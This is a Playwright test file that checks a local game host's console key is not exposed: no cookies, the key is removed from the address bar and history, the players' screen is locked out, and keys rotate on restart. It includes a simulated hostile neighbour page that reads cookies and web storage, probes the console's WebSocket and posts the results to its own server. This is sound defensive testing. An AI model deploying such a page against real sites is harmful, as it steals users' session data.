/**
 * The console's key in a real browser (issue 18, item 9; docs/security.md). The browser host sets no
 * cookie: another local server the moderator's browser visits (another port of 127.0.0.1, or 127.0.0.2)
 * receives nothing that opens the console. The key leaves the address bar and the tab's history once the
 * console has loaded, a reload keeps working, a restart of the host makes a new key (an old tab says what
 * to do), and the players' screen never becomes the console, whatever its address is edited to.
 * Screenshots at 1366×768 and 1920×1080 in test-results/e2e/screens/keys-*.png.
 */
import { once } from 'node:events';
import { mkdirSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import WebSocket from 'ws';
import { callHost, expect, keyOf, startHost, test } from './host.ts';

const SCREENS = join(import.meta.dirname, '../../test-results/e2e/screens');
mkdirSync(SCREENS, { recursive: true });

async function shots(page: Page, name: string): Promise<void> {
  for (const [width, height] of [
    [1366, 768],
    [1920, 1080],
  ] as const) {
    await page.setViewportSize({ width, height });
    await page.screenshot({ path: join(SCREENS, `keys-${name}-${width}.png`) });
  }
}

/** Another local server: it keeps every request's headers, and what its page could read and do. */
interface Neighbour {
  readonly origin: string;
  readonly requests: IncomingHttpHeaders[];
  readonly reports: Record<string, string>[];
  close(): Promise<void>;
}

/**
 * A page of another local server, as a hostile one would be: it reads what it can (cookies, storage)
 * and tries the console's socket, then reports to its own server.
 */
function neighbourPage(consolePort: number): string {
  return `<!doctype html><title>neighbour</title><script>
(async () => {
  const report = { cookie: document.cookie, session: JSON.stringify({ ...sessionStorage }), local: JSON.stringify({ ...localStorage }) };
  report.socket = await new Promise((resolve) => {
    const ws = new WebSocket('ws://127.0.0.1:${consolePort}/ws');
    ws.onopen = () => resolve('open');
    ws.onerror = () => resolve('refused');
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
})();
</script>`;
}

async function startNeighbour(address: string, consolePort: number): Promise<Neighbour> {
  const requests: IncomingHttpHeaders[] = [];
  const reports: Record<string, string>[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(req.headers);
    if (req.method === 'POST') {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        reports.push(JSON.parse(body) as Record<string, string>);
        res.end('ok');
      });
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(neighbourPage(consolePort));
  });
  server.listen(0, address);
  await once(server, 'listening');
  const bound = server.address();
  const port = typeof bound === 'object' && bound ? bound.port : 0;
  return {
    origin: `http://${address}:${port}`,
    requests,
    reports,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** The host's answer to a console WebSocket opened from Node with these headers and address: 101 or the refusal's status. */
function tryConsoleSocket(port: number, query: string, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://127.0.0.1:${port}/ws${query}`, {
      headers,
      origin: `http://127.0.0.1:${port}`,
    });
    ws.once('open', () => {
      ws.close();
      resolve(101);
    });
    ws.once('unexpected-response', (_req, res) => {
      resolve(res.statusCode ?? 0);
      ws.terminate();
    });
    ws.once('error', () => resolve(0));
  });
}

/** Every value a neighbour received in a header that a browser adds on its own (cookies, authorisation). */
function credentialsReceived(requests: readonly IncomingHttpHeaders[]): string[] {
  return requests.flatMap((headers) =>
    [headers.cookie, headers.authorization].filter((value): value is string => typeof value === 'string'),
  );
}

test('another local server the browser visits receives nothing that opens the console', async ({
  host,
  page,
  context,
}) => {
  const port = Number(new URL(host.url).port);
  // 127.0.0.2 answers on Linux and Windows; macOS has only 127.0.0.1 unless an alias is added.
  const addresses = process.platform === 'darwin' ? ['127.0.0.1'] : ['127.0.0.1', '127.0.0.2'];
  const neighbours = await Promise.all(addresses.map((address) => startNeighbour(address, port)));
  try {
    // The moderator opens the console, uses it, reloads it, and opens the players' screen.
    await page.goto(host.url);
    await expect(page.getByTestId('text-only')).toBeVisible();
    await page.reload();
    await expect(page.getByTestId('text-only')).toBeVisible();
    const opened = context.waitForEvent('page');
    await page.keyboard.press('w');
    const players = await opened;
    await expect(players.getByTestId('public-screen')).toHaveAttribute('data-screen', 'waiting');

    // The host set no cookie at all, for any address.
    expect(await context.cookies()).toEqual([]);

    // Then the browser visits the neighbours: in a tab of its own, and in the console's own tab.
    const tab = await context.newPage();
    for (const neighbour of neighbours) {
      await tab.goto(neighbour.origin);
      await expect.poll(() => neighbour.reports.length).toBe(1);
      await page.goto(`${neighbour.origin}/from-the-console-tab`);
      await expect.poll(() => neighbour.reports.length).toBe(2);
    }

    const key = keyOf(players);
    for (const neighbour of neighbours) {
      // Nothing came in its requests' headers, and its page could read nothing of ours nor open our socket.
      expect(credentialsReceived(neighbour.requests)).toEqual([]);
      expect(JSON.stringify(neighbour.requests)).not.toContain(key);
      for (const report of neighbour.reports) {
        expect(report).toMatchObject({ cookie: '', session: '{}', local: '{}', socket: 'refused' });
        expect(JSON.stringify(report)).not.toContain(key);
      }
      // Whatever it received, used against the console (as a cookie, as a key), opens nothing.
      const received = [...credentialsReceived(neighbour.requests), ''];
      for (const value of received) {
        expect(await tryConsoleSocket(port, '', { Cookie: value })).toBe(403);
        for (const part of value.split(/[;=\s]+/))
          expect(await tryConsoleSocket(port, `?token=${encodeURIComponent(part)}`, {})).toBe(403);
      }
    }
    // The console's own key does open it: the refusals above are the key's absence, not a broken host.
    expect(await tryConsoleSocket(port, `?token=${encodeURIComponent(key)}`, {})).toBe(101);
  } finally {
    for (const neighbour of neighbours) await neighbour.close();
  }
});

test('the key leaves the address bar and the history; a reload keeps working; a new tab is told what to do', async ({
  host,
  page,
  context,
}) => {
  const start = 'data:text/html,<title>before</title>';
  await page.goto(start);
  await page.goto(host.url);
  await expect(page.getByTestId('text-only')).toBeVisible();
  const key = new URL(host.url).searchParams.get('token')!;
  expect(key.length).toBeGreaterThanOrEqual(32);
  const origin = new URL(host.url).origin;
  expect(page.url()).toBe(`${origin}/`);
  expect(await page.evaluate(() => location.href)).not.toContain(key);
  // The tab's history, walked back to its first entry and forward again: no entry holds the key.
  const entries = await page.evaluate(() => history.length);
  const seen = [page.url()];
  for (let i = 1; i < entries; i++) {
    await page.goBack();
    seen.push(page.url());
  }
  expect(seen).toContain(start);
  expect(seen.join('\n')).not.toContain(key);
  for (let i = 1; i < entries; i++) await page.goForward();
  expect(page.url()).toBe(`${origin}/`);
  await expect(page.getByTestId('text-only')).toBeVisible();
  await expect(page.getByTestId('host-locked')).toHaveCount(0);

  // A game, opened, then the tab reloaded: it reopens at the same place, its key taken from the tab.
  const game = await callHost<{ id: string }>(page, 'createGame', {
    players: ['Ann', 'Ben', 'Cat'],
    deal: { mode: 'manual', players: ['seer', 'robber', 'werewolf'], center: ['villager', 'troublemaker', 'werewolf'] },
  });
  await page.goto(`${host.url}#/game/${encodeURIComponent(game.id)}`);
  await expect(page.getByTestId('deal-screen')).toBeVisible();
  expect(page.url()).toBe(`${origin}/#/game/${encodeURIComponent(game.id)}`);
  await page.reload();
  await expect(page.getByTestId('deal-screen')).toBeVisible();
  await page.getByTestId('start-night').click();
  await expect(page.getByTestId('stage')).toBeVisible();
  // While the console runs, its tab's storage holds no key (a window it opens starts with a copy of it).
  expect(await page.evaluate(() => JSON.stringify({ ...sessionStorage }))).not.toContain(key);

  // A new tab at the console's address without its key: no console, a page that says what to do.
  const other = await context.newPage();
  await other.goto(`${origin}/`);
  await expect(other.getByTestId('host-locked')).toHaveAttribute('data-reason', 'no-key');
  await expect(other.getByTestId('host-locked')).toContainText('npm run web');
  await expect(other.getByTestId('open-archive')).toHaveCount(0);
  await shots(other, 'no-key');
  await other.close();
});

test("the players' screen never becomes the console, whatever its address is edited to", async ({
  host,
  page,
  context,
  browser,
}) => {
  await page.goto(host.url);
  await expect(page.getByTestId('text-only')).toBeVisible();
  const opened = context.waitForEvent('page');
  await page.keyboard.press('w');
  const players = await opened;
  const address = await page.getByTestId('players-screen-address').inputValue();
  const publicKey = new URL(address).searchParams.get('token')!;
  const origin = new URL(host.url).origin;
  await expect(players.getByTestId('public-screen')).toHaveAttribute('data-screen', 'waiting');
  // Its key left its address bar too, and it is cut from the console's window.
  expect(players.url()).toBe(`${origin}/public.html`);
  expect(await players.evaluate(() => window.opener === null)).toBe(true);

  // Its address edited to the console's: the page loads, but it has no console key and says so.
  for (const edited of [`${origin}/`, `${origin}/index.html`, `${origin}/#/game/x`]) {
    await players.goto(edited);
    await expect(players.getByTestId('host-locked')).toHaveAttribute('data-reason', 'no-key');
    await expect(players.getByTestId('open-archive')).toHaveCount(0);
  }
  // The console's page with the players' key: refused by the host, with the reason.
  const withPublicKey = await players.goto(`${origin}/?token=${publicKey}`);
  expect(withPublicKey?.status()).toBe(403);
  expect(await withPublicKey?.text()).toContain("the players' screen's token opens /public.html only");
  // Anything the page could try on the console's socket from there is refused.
  await players.goto(`${origin}/`);
  const attempts = await players.evaluate(async (publicKey) => {
    const tryKey = (query: string): Promise<string> =>
      new Promise((resolve) => {
        const ws = new WebSocket(`ws://${location.host}/ws${query}`);
        ws.onopen = () => resolve('open');
        ws.onerror = () => resolve('refused');
      });
    const stored = Object.values({ ...sessionStorage });
    return Promise.all(
      ['', `?token=${publicKey}`, ...stored.map((v) => `?token=${encodeURIComponent(v)}`)].map(tryKey),
    );
  }, publicKey);
  expect(attempts.every((answer) => answer === 'refused')).toBe(true);
  await shots(players, 'players-edited');

  // And back to its own address: it is the players' screen again, nothing more.
  await players.goto(`${origin}/public.html`);
  await expect(players.getByTestId('public-screen')).toHaveAttribute('data-screen', 'waiting');

  // The same in a browser of its own (a TV's), from the address alone.
  const tv = await browser.newContext();
  const tvPage = await tv.newPage();
  await tvPage.goto(address);
  await expect(tvPage.getByTestId('public-screen')).toHaveAttribute('data-screen', 'waiting');
  expect(tvPage.url()).toBe(`${origin}/public.html`);
  await tvPage.reload();
  await expect(tvPage.getByTestId('public-screen')).toHaveAttribute('data-screen', 'waiting');
  await tvPage.goto(`${origin}/`);
  await expect(tvPage.getByTestId('host-locked')).toHaveAttribute('data-reason', 'no-key');
  expect((await tvPage.request.get(`${origin}/?token=${publicKey}`)).status()).toBe(403);
  // The players' address typed without its key: the players' screen says what to do.
  const typed = await tv.newPage();
  await typed.goto(`${origin}/public.html`);
  await expect(typed.getByTestId('public-locked')).toHaveAttribute('data-reason', 'no-key');
  await expect(typed.getByTestId('public-locked')).toContainText('the console shows');
  await shots(typed, 'players-no-key');
  await tv.close();
});

test('a restart of the host makes a new key: an old tab says what to do, the new address works', async ({ page }) => {
  const first = await startHost();
  const port = Number(new URL(first.host.url).port);
  let second: Awaited<ReturnType<typeof startHost>> | null = null;
  try {
    await page.goto(first.host.url);
    await expect(page.getByTestId('text-only')).toBeVisible();
    const opened = page.context().waitForEvent('page');
    await page.keyboard.press('w');
    const players = await opened;
    await expect(players.getByTestId('public-screen')).toHaveAttribute('data-screen', 'waiting');
    const stopped = once(first.process, 'exit');
    first.process.kill('SIGTERM');
    await stopped;

    second = await startHost(40, { db: first.host.db, port });
    const [before, after] = [first.host.url, second.host.url].map((url) => new URL(url).searchParams.get('token'));
    expect(after).not.toBe(before);

    // The old tab, reloaded: its key is not the new host's, and it says so.
    await page.reload();
    await expect(page.getByTestId('host-locked')).toHaveAttribute('data-reason', 'key-refused');
    await expect(page.getByTestId('host-locked')).toContainText('printed last');
    await shots(page, 'key-refused');
    // The players' window, reloaded, says the same of its own key.
    await players.reload();
    await expect(players.getByTestId('public-locked')).toHaveAttribute('data-reason', 'key-refused');
    await shots(players, 'players-key-refused');
    // The old address itself is refused with the reason; the new one opens the console.
    const old = await page.request.get(first.host.url);
    expect(old.status()).toBe(403);
    expect(await old.text()).toContain('new one at every start');
    await page.goto(second.host.url);
    await expect(page.getByTestId('text-only')).toBeVisible();
  } finally {
    first.process.kill('SIGTERM');
    second?.process.kill('SIGTERM');
  }
});
